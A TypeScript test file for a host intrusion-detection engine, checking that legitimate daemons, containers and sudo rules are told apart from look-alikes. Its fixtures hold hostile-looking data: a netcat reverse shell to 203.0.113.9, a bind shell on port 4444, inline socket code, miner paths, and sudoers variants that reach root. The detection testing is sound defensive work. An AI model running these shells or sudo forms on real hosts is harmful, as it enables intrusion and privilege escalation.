// What the fifteenth blind corpus taught, each beside the form that stays a finding: Knot Resolver's Lua config read
// as inline code, media servers, Home Assistant, PaperCut, Selenium Grid and dnstap collectors on their documented
// ports, docker-proxy publishing a container's port, Arch's and Alpine's setuid helpers, Home Assistant Supervised's
// privileged containers, Nextflow's task scripts and Aspera in hidden paths, FastNetMon's packet socket, sudo rules
// that run commands as another user, Raspberry Pi OS's sudo rule, and fileless programs asked of miners and of /tmp.
import { test } from "tap";
import { getDetection, routeQuery } from "../../shared/engine/index.js";
import type { DetectionHit, HostData, Row } from "../../shared/engine/index.js";
import { host, proc } from "./helpers.js";

const NO_ENTITIES = { entities: { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} } };
const all = (id: string, h: HostData): DetectionHit[] => getDetection(id)?.evaluate(h, NO_ENTITIES) ?? [];
const findings = (id: string, h: HostData): DetectionHit[] => all(id, h).filter((x) => x.kept_by === undefined);
const alerts = (id: string, h: HostData): DetectionHit[] => findings(id, h).filter((x) => x.severity !== "info");

const listening = (p: Row, port: number, protocol = 6): HostData =>
  host({ processes: [p], listening_ports: [{ pid: String(p.pid), port: String(port), protocol: String(protocol), family: "2", address: "0.0.0.0" }] });
const listener = (p: Row, port: number, protocol = 6) => all("unexpected-listener", listening(p, port, protocol));

test("an interpreter's name ending a file name (kresd's distro-preconfig.lua -c) is no inline code", async (t) => {
  const kresd = proc(7, "kresd", "/usr/sbin/kresd", "/usr/sbin/kresd -c /usr/lib64/knot-resolver/distro-preconfig.lua -c /etc/knot-resolver/kresd.conf -n");
  t.equal(listener(kresd, 53)[0]?.kept_by, "port:dns", "Knot Resolver on 53 is the DNS port's");
  const inline = listener(proc(8, "python3", "/usr/bin/python3", "python3 -c import socket;s=socket.socket()"), 8000);
  t.equal(inline[0]?.severity, "high", "python3 -c is still inline code");
  t.equal(listener(proc(9, "perl", "/usr/bin/perl", "/usr/bin/perl -e 'use Socket'"), 8001)[0]?.severity, "high", "a path's last part counts");
});

test("documented default ports: media servers, Home Assistant, PaperCut, Selenium Grid, dnstap", async (t) => {
  const kept = (p: Row, port: number, protocol = 6) => listener(p, port, protocol)[0]?.kept_by;
  t.equal(kept(proc(1, "jellyfin", "/usr/lib/jellyfin/bin/jellyfin"), 8096), "port:jellyfin");
  t.equal(kept(proc(1, "jellyfin", "/jellyfin/jellyfin"), 7359, 17), "port:jellyfin");
  t.equal(kept(proc(2, "Sonarr", "/app/sonarr/bin/Sonarr", "/app/sonarr/bin/Sonarr -nobrowser -data=/config"), 8989), "port:servarr");
  t.equal(kept(proc(3, "python3", "/usr/local/bin/python3.13", "python3 -m homeassistant --config /config"), 8123), "port:home-assistant");
  t.equal(kept(proc(3, "python3", "/usr/local/bin/python3.13", "python3 -c 'import homeassistant' "), 8123), undefined, "the token in inline code is not Home Assistant");
  t.equal(kept(proc(4, "java", "/home/papercut/runtime/linux-x64/jre/bin/java", "java -classpath /home/papercut/server/lib/* biz.papercut.pcng.server.Server"), 9191), "port:papercut");
  t.equal(kept(proc(5, "go-dnscollecto", "/usr/local/bin/go-dnscollector", "/usr/local/bin/go-dnscollector -config /etc/dnscollector/config.yml"), 6000), "port:go-dnscollector");
  t.equal(kept(proc(6, "interactsh-serv", "/usr/local/bin/interactsh-server", "/usr/local/bin/interactsh-server -domain oob.example.org -smb -ldap -ftp"), 389), "port:interactsh");
  t.equal(kept(proc(6, "interactsh-serv", "/usr/local/bin/interactsh-server", "/usr/local/bin/interactsh-server -domain oob.example.org"), 4443), undefined, "on a port it does not serve");
});

test("on a bind shell's port only a program documented for that port, from a system or vendor directory", async (t) => {
  const selenium = proc(6, "java", "/opt/java/openjdk/bin/java", "java -jar /opt/selenium/selenium-server.jar hub");
  t.equal(listener(selenium, 4444)[0]?.kept_by, "port:selenium-grid", "Selenium Grid's hub on 4444");
  t.equal(listener({ ...selenium, path: "/tmp/java" }, 4444)[0]?.kept_by, undefined, "the same from /tmp");
  t.equal(listener(proc(7, "nc", "/usr/bin/nc.openbsd", "nc -lvnp 4444"), 4444)[0]?.severity, "high", "netcat on 4444");
  t.equal(listener(proc(8, "mysqld", "/usr/sbin/mysqld", "/usr/sbin/mysqld --wsrep-on"), 4444)[0]?.kept_by, undefined, "mysqld never listens on Galera's SST port (socat or rsync does)");
  t.equal(listener(proc(8, "java", "/usr/bin/java", "java -jar /tmp/payload.jar selenium-server"), 4444)[0]?.kept_by, undefined, "the token outside the jar java runs");
  t.equal(listener(proc(8, "java", "/usr/bin/java", "java -jar /home/u/.x/selenium-server.jar"), 4444)[0]?.kept_by, undefined, "a jar in a hidden directory");
  t.equal(listener(proc(8, "selenium", "/usr/bin/java", "java -jar /opt/selenium/selenium-server.jar"), 4444)[0]?.kept_by, undefined, "a retitled process (its name is not its executable's)");
  t.equal(listener(proc(8, "python3", "/usr/bin/python3.11", "/dev/shm/homeassistant.py"), 8123)[0]?.kept_by, undefined, "a script in a temp directory");
  t.equal(listener(proc(8, "java", "/usr/bin/java", "java -cp /tmp/x.jar Evil biz.papercut"), 9191)[0]?.kept_by, undefined, "PaperCut's name as an argument, not the main class");
  t.equal(listener(proc(8, "java", "/usr/bin/java", "java -cp /dev/shm/x.jar biz.papercut.pcng.server.Server"), 9191)[0]?.kept_by, undefined, "its main class from a temp directory");
  t.equal(listener(proc(8, "kresd", "/home/u/kresd", "/home/u/kresd"), 443)[0]?.kept_by, undefined, "a DNS server's name on 443 from a home directory");
  t.equal(listener(proc(8, "kresd", "/usr/sbin/kresd", "/usr/sbin/kresd -n"), 443)[0]?.kept_by, "port:dns-encrypted", "Knot Resolver's DoH");
  const proxy = (path: string) => proc(9, "docker-proxy", path, `${path} -proto tcp -host-ip 0.0.0.0 -host-port 8080 -container-ip 172.17.0.2 -container-port 80`);
  t.equal(listener(proxy("/usr/bin/docker-proxy"), 8080)[0]?.kept_by, "port:docker-proxy", "docker-proxy publishing a container's port");
  t.equal(listener(proxy("/tmp/docker-proxy"), 8080)[0]?.kept_by, undefined, "the name anywhere else");
  t.equal(listener(proxy("/usr/bin/docker-proxy"), 4444)[0]?.kept_by, undefined, "nor a published bind shell's port");
  t.equal(listener({ ...proxy("/usr/bin/docker-proxy"), uid: "1000" }, 8080)[0]?.kept_by, undefined, "run by a user: a relay");
  const loop = proc(9, "docker-proxy", "/usr/bin/docker-proxy", "/usr/bin/docker-proxy -proto tcp -host-ip 0.0.0.0 -host-port 31338 -container-ip 127.0.0.1 -container-port 31337");
  t.equal(listener(loop, 31338)[0]?.kept_by, undefined, "towards loopback: a relay to a listener kept off the network");
});

test("setuid helpers of Arch and Alpine; others stay findings", async (t) => {
  const suid = (path: string) => findings("unexpected-suid", host({ suid_bin: [{ path, username: "root", groupname: "root", permissions: "S" }] }));
  for (const path of ["/usr/bin/unix_chkpwd", "/usr/bin/sg", "/usr/bin/doas"]) t.same(suid(path), [], path);
  t.equal(suid("/usr/local/bin/doas").length, 1, "doas elsewhere");
  t.equal(findings("unexpected-suid", host({ suid_bin: [{ path: "/usr/bin/doas", username: "mallory", groupname: "mallory", permissions: "S" }] })).length, 1, "owned by someone other than root");
});

test("Home Assistant Supervised's containers from ghcr.io; the same names elsewhere or other mounts stay findings", async (t) => {
  const ctr = (id: string, name: string, image: string, privileged: string) => ({ id, name, image, image_id: "x", command: "/init", state: "running", privileged });
  const mount = (id: string, source: string, rw = "1") => ({ id, type: "bind", source, destination: source, rw });
  const supervisor = ctr("s1", "/hassio_supervisor", "ghcr.io/home-assistant/amd64-hassio-supervisor:2025.03.4", "1");
  const core = ctr("c1", "/homeassistant", "ghcr.io/home-assistant/qemux86-64-homeassistant:2025.3.4", "1");
  t.same(findings("privileged-container", host({ docker_containers: [supervisor, core] })), []);
  t.same(findings("docker-socket-mount", host({ docker_containers: [supervisor], docker_container_mounts: [mount("s1", "/var/run/docker.sock")] })), []);
  t.same(findings("container-host-mount", host({ docker_containers: [core], docker_container_mounts: [mount("c1", "/dev")] })), []);
  t.equal(findings("container-host-mount", host({ docker_containers: [core], docker_container_mounts: [mount("c1", "/root")] })).length, 1, "Core mounting /root");
  const mirror = ctr("m1", "/hassio_supervisor", "evil.example/home-assistant/amd64-hassio-supervisor:1", "0");
  t.equal(findings("docker-socket-mount", host({ docker_containers: [mirror], docker_container_mounts: [mount("m1", "/var/run/docker.sock")] })).length, 1, "the supervisor's name under another registry");
  t.equal(findings("privileged-container", host({ docker_containers: [{ ...mirror, privileged: "1" }] })).length, 1, "privileged under another registry");
  t.equal(findings("privileged-container", host({ docker_containers: [ctr("l1", "/hassio_supervisor", "home-assistant/amd64-hassio-supervisor:1", "1")] })).length, 1, "a local tag without a registry");
  const shell = { ...supervisor, command: "bash -c 'nc -e /bin/sh 203.0.113.9 443'" };
  t.equal(findings("privileged-container", host({ docker_containers: [shell] })).length, 1, "the real image running another command");
  t.equal(findings("docker-socket-mount", host({ docker_containers: [shell], docker_container_mounts: [mount("s1", "/var/run/docker.sock")] })).length, 1, "nor its socket");
  t.equal(findings("container-host-mount", host({ docker_containers: [{ ...core, name: "/x" }], docker_container_mounts: [mount("c1", "/dev")] })).length, 1, "Core's image under another name");
});

test("Nextflow's task scripts in their hash-named work directories, and Aspera's per-user install", async (t) => {
  const run = (cmdline: string, path = "/usr/bin/bash") => alerts("hidden-system-path-exec", host({ processes: [proc(2, "bash", path, cmdline, { uid: "2001" })] }));
  t.same(run("/bin/bash -ue /scratch/nf-work/1d/306454214bbeebe9d78a6acce61a99/.command.run"), []);
  t.same(run("/bin/bash /scratch/nf-work/f8/9d2dc18b952c41fd719bde178f667e/.command.sh"), []);
  t.equal(run("/bin/bash /scratch/nf-work/1d/.command.sh").length, 1, "not in a task's directory");
  t.equal(run("/bin/bash /tmp/1d/306454214bbeebe9d78a6acce61a99/.cmd.sh").length, 1, "another hidden name there");
  t.equal(run("/bin/bash /var/tmp/.x/1d/306454214bbeebe9d78a6acce61a99/.command.sh").length, 1, "a hidden directory above it");
  t.same(alerts("hidden-system-path-exec", host({ processes: [proc(3, "ascp", "/home/pipeline/.aspera/connect/bin/ascp", "ascp -QT -l 500m x y", { uid: "1000" })] })), []);
  for (const path of ["/usr/lib/1d/306454214bbeebe9d78a6acce61a99/.command.run", "/root/1d/306454214bbeebe9d78a6acce61a99/.command.sh", "/var/lib/1d/306454214bbeebe9d78a6acce61a99/.command.run"]) {
    t.equal(alerts("hidden-system-path-exec", host({ processes: [proc(4, ".command.run", path, path)] })).length, 1, `a task layout in a system, temp or root's directory: ${path}`);
  }
  for (const path of ["/usr/lib/.aspera/kworker", "/var/tmp/.aspera/xmrig", "/root/.aspera/x", "/home/u/.aspera/x"]) {
    t.equal(alerts("hidden-system-path-exec", host({ processes: [proc(5, "x", path, path)] })).length, 1, `.aspera anywhere but its install layout: ${path}`);
  }
});

test("FastNetMon's packet socket from its package directory", async (t) => {
  const packet = (path: string) => findings("packet-socket-backdoor", host({ processes: [proc(11, "fastnetmon", path, `${path} --daemonize`)], process_open_sockets: [{ pid: "11", fd: "4", socket: "1", family: "17", protocol: "3", local_port: "0", remote_port: "0" }] }));
  t.same(packet("/usr/sbin/fastnetmon"), []);
  t.equal(packet("/opt/x/fastnetmon").length, 1);
});

test("a sudo rule that runs commands as another user is a note; root, ALL or a later root command stay findings", async (t) => {
  const rule = (header: string, rule_details: string, source = "/etc/sudoers.d/x") => findings("sudoers-nopasswd-all", host({ sudoers: [{ source, header, rule_details }] }));
  const other = rule("ctf-checker", "ALL = (ctf-checkerrunner) NOPASSWD: ALL");
  t.equal(other[0]?.severity, "info");
  t.match(other[0]?.summary, /as ctf-checkerrunner, not as root/);
  t.equal(rule("bob", "ALL=(ALL) NOPASSWD:ALL")[0]?.severity, undefined);
  t.equal(rule("bob", "ALL=(postgres, root) NOPASSWD:ALL")[0]?.severity, undefined);
  t.equal(rule("bob", "ALL=(ALL,!root) NOPASSWD:ALL")[0]?.severity, undefined, "ALL but root is still ALL (sudo's -u#-1)");
  t.equal(rule("bob", "ALL=(bob2) NOPASSWD:ALL, (root) NOPASSWD: /bin/sh")[0]?.severity, undefined, "a later command as root");
  // What an adversarial review found the first reading let through: each may reach root.
  for (const r of ["ALL=(bob) NOPASSWD: ALL : ALL= NOPASSWD: ALL", "ALL=(OP) NOPASSWD: ALL", "ALL=(:ALL) NOPASSWD: ALL", "ALL=(:disk) NOPASSWD: ALL", "ALL=(#00) NOPASSWD:ALL", 'ALL=("root") NOPASSWD:ALL', "ALL=(bob:root) NOPASSWD:ALL"]) {
    t.equal(rule("bob", r)[0]?.severity, undefined, r);
  }
  const toor = findings("sudoers-nopasswd-all", host({ sudoers: [{ source: "/etc/sudoers", header: "bob", rule_details: "ALL=(toor) NOPASSWD: ALL" }], users: [{ username: "toor", uid: "0" }] }));
  t.equal(toor[0]?.severity, undefined, "a runas account with uid 0");
  t.equal(rule("bob", "ALL=(ALL) NOPASSWD: ALL # deploy")[0]?.severity, undefined, "a trailing comment does not hide the rule");
  t.equal(rule("pi", "ALL=(ALL) NOPASSWD: ALL", "/etc/sudoers.d/010_pi-nopasswd").length, 1, "Raspberry Pi OS's rule for pi stays a finding where nothing tells a Pi from another host");
});

test("fileless programs are asked of miners and of programs run from temporary directories", async (t) => {
  t.ok(routeQuery("Our Redis session cluster is burning CPU. Is anything mining on it?", "standard").detection_ids.includes("deleted-binary-running"));
  t.ok(routeQuery("Check the Redis servers for code running from temporary directories.", "standard").detection_ids.includes("deleted-binary-running"));
});

test("Ansible's persisting SSH master by its title, pgBackRest's SSH to its repository host; other SSH stays", async (t) => {
  const ssh = (p: Row, port = 22) => all("lateral-admin-connection", host({ processes: [p], process_open_sockets: [{ pid: String(p.pid), fd: "5", socket: "1", family: "2", protocol: "6", local_address: "10.20.0.10", remote_address: "10.20.3.15", local_port: "41942", remote_port: String(port), state: "ESTABLISHED" }] }));
  t.equal(ssh(proc(1240, "ssh", "/usr/bin/ssh", "ssh: /home/semaphore/.ansible/cp/018164c4c9 [mux]"))[0]?.kept_by, "automation:ansible-ssh");
  t.equal(ssh(proc(1241, "ssh", "/usr/bin/ssh", "ssh: /home/x/.cache/cp/018164c4c9 [mux]"))[0]?.kept_by, undefined, "another control path");
  t.equal(ssh(proc(1242, "ssh", "/usr/bin/ssh", "ssh: /home/semaphore/.ansible/cp/018164c4c9 [mux] -R 9000:localhost:22"))[0]?.kept_by, undefined, "more after the title");
  t.equal(ssh(proc(1180, "pgbackrest", "/usr/bin/pgbackrest", "pgbackrest --stanza=payments --type=incr backup"))[0]?.kept_by, "backup:pgbackrest-ssh");
  t.equal(ssh(proc(1181, "pgbackrest", "/tmp/pgbackrest", "pgbackrest backup"))[0]?.kept_by, undefined, "from elsewhere");
});

test("a file named the way ps cuts a long name, or a program right in a library directory, poses as something else", async (t) => {
  const masq = (name: string, path: string, cmdline = path) => findings("process-masquerading", host({ processes: [proc(1667, name, path, cmdline)] }));
  t.equal(masq("kube-controller", "/usr/local/bin/kube-controller").length, 1, "RBAC Buster's kube-controller");
  t.same(masq("kube-controller", "/usr/local/bin/kube-controller-manager", "kube-controller-manager --kubeconfig=/etc/kubernetes/controller-manager.conf"), [], "the real one, whose comm is cut");
  t.same(masq("containerd-shim", "/usr/bin/containerd-shim"), [], "a cut that is a real program's own name");
  t.equal(masq("redis", "/usr/lib/redis", "/lib/redis e").length, 1, "PumaBot's /lib/redis");
  t.same(masq("gvfsd", "/usr/lib/gvfsd"), [], "Arch's helpers right in /usr/lib (libexecdir=/usr/lib)");
  t.equal(masq("sshd", "/lib64/sshd").length, 1, "a daemon's name there");
  t.same(masq("ld-linux-x86-64", "/usr/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 --list /bin/ls"), [], "the dynamic loader run directly");
  t.same(masq("redis-server", "/usr/lib/redis/redis-server"), [], "a package's own directory under /usr/lib");
});

test("a unit whose service runs a program from a temp directory: a user unit is no longer only a note", async (t) => {
  const unitRows = [
    { node: "/files/home/m/.config/systemd/user/pgmon.service/Service/ExecStart/command", value: "/usr/bin/python3", path: "/home/m/.config/systemd/user/pgmon.service" },
    { node: "/files/home/m/.config/systemd/user/pgmon.service/Service/ExecStart/arguments/1", value: "/home/m/.local/share/pgmon/service.py", path: "/home/m/.config/systemd/user/pgmon.service" },
  ];
  const cg = "/user.slice/user-1000.slice/user@1000.service/app.slice/pgmon.service";
  const unit = (child: Row[]) => all("suspicious-systemd-unit", host({ augeas: unitRows, processes: [proc(1018, "python3", "/usr/bin/python3.13", "/usr/bin/python3 /home/m/.local/share/pgmon/service.py", { uid: "1000", cgroup_path: cg }), ...child] }));
  t.equal(unit([])[0]?.severity, "info", "a user's unit alone");
  const withTemp = unit([proc(1042, "pglog", "/tmp/pglog", "/tmp/pglog", { uid: "1000", parent: "1018", cgroup_path: cg })]);
  t.equal(withTemp[0]?.severity, undefined, "its service runs /tmp/pglog");
  t.match(withTemp[0]?.summary, /runs \/tmp\/pglog from a temp directory/);
  t.equal(unit([proc(1043, "main", "/tmp/go-build123/b001/exe/main", "/tmp/go-build123/b001/exe/main", { uid: "1000", cgroup_path: cg })])[0]?.severity, "info", "a documented temp layout (go run)");
});

test("a raw TCP or UDP socket is read like a packet socket (GTPDOOR); raw ICMP and routing protocols are not", async (t) => {
  const raw = (p: Row, ipProtocol: number) => findings("packet-socket-backdoor", host({ processes: [p], process_open_sockets: [{ pid: String(p.pid), fd: "3", socket: "9", family: "2", protocol: "255", local_address: "0.0.0.0", remote_address: "0.0.0.0", local_port: String(ipProtocol), remote_port: "0", state: "" }] }));
  const gtpdoor = raw(proc(1088, "dbus-echo", "/usr/lib64/dbus-1/dbus-echo", "[syslog]"), 17);
  t.equal(gtpdoor.length, 1);
  t.match(gtpdoor[0]?.summary, /holds a socket \(raw UDP\)/);
  t.equal(raw(proc(1089, "agent", "/usr/local/bin/agent", "/usr/local/bin/agent"), 6)[0]?.severity, "medium", "raw TCP from a program no baseline knows");
  t.same(raw(proc(1090, "ping", "/usr/bin/ping", "ping 10.0.0.1"), 1), [], "raw ICMP is not read here");
  t.same(raw(proc(1091, "bird", "/usr/sbin/bird", "/usr/sbin/bird -f"), 89), [], "nor OSPF");
  t.same(raw(proc(1092, "nmap", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24"), 6), [], "a scanner from its package directory is a note");
  t.same(raw(proc(1093, "dhcpcd", "/usr/sbin/dhcpcd", "dhcpcd: [privileged proxy]"), 17), [], "dhcpcd 9's privileged proxy holds raw UDP for its lifetime");
  t.same(raw(proc(1094, "mtr-packet", "/usr/bin/mtr-packet", "mtr-packet"), 17), [], "mtr's prober");
  t.equal(raw(proc(1095, "dhcpcd", "/tmp/dhcpcd", "dhcpcd"), 17).length, 1, "a dhcpcd from /tmp");
});
